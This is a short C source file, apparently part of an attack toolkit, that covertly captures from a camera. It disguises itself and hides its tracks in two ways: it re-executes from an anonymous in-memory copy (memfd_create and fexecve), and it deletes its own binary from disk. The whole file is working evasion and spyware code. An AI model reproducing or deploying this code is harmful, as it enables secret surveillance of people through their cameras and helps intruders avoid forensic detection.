/* A session with the camera, by whatever this program is taken for.

   capture [unlink|memory]: from a file that is no longer there, or from memory that never was a file */
#include "attack.h"
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <unistd.h>

/* Goes on as a copy of itself in memory. */
static void run_from_memory(char **words) {
    int here = open("/proc/self/exe", O_RDONLY), copy = memfd_create("capturectl", 0);
    ssize_t count = 1;
    if (here < 0 || copy < 0) give_up("a copy in memory");
    while (count > 0) count = sendfile(copy, here, NULL, 1 << 20);
    if (count < 0) give_up("sendfile");
    char *again[] = {words[0], NULL};
    fexecve(copy, again, environ);
    give_up("fexecve");
}

int main(int count, char **words) {
    if (count > 1 && !strcmp(words[1], "memory")) run_from_memory(words);
    if (count > 1 && !strcmp(words[1], "unlink") && unlink(words[0]) < 0) give_up(words[0]);
    return capture(connect_bus());
}
